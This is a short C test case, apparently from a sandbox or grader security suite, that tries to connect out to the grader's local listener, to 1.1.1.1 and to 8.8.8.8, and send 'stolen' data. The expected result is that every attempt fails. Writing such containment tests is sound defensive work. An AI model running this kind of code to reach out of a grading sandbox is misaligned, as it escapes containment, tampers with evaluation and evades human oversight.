/* attack: connect out: to the grader's own listener on 127.0.0.1, to the internet, to a
 *         package registry; send whatever it can
 * family: listeners and outgoing connections
 * target: getpid_test
 * expect: grader -1 .*internet -1
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>
static int try(const char *ip, int port)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons((unsigned short)port);
    inet_pton(AF_INET, ip, &a.sin_addr);
    int r = connect(s, (struct sockaddr *)&a, sizeof a);
    if (r == 0) (void)!write(s, "stolen\n", 7);
    close(s);
    return r;
}
int main(void)
{
    printf("grader %d internet %d dns %d\n", try("127.0.0.1", @PORT@), try("1.1.1.1", 443), try("8.8.8.8", 53));
    return 0;
}
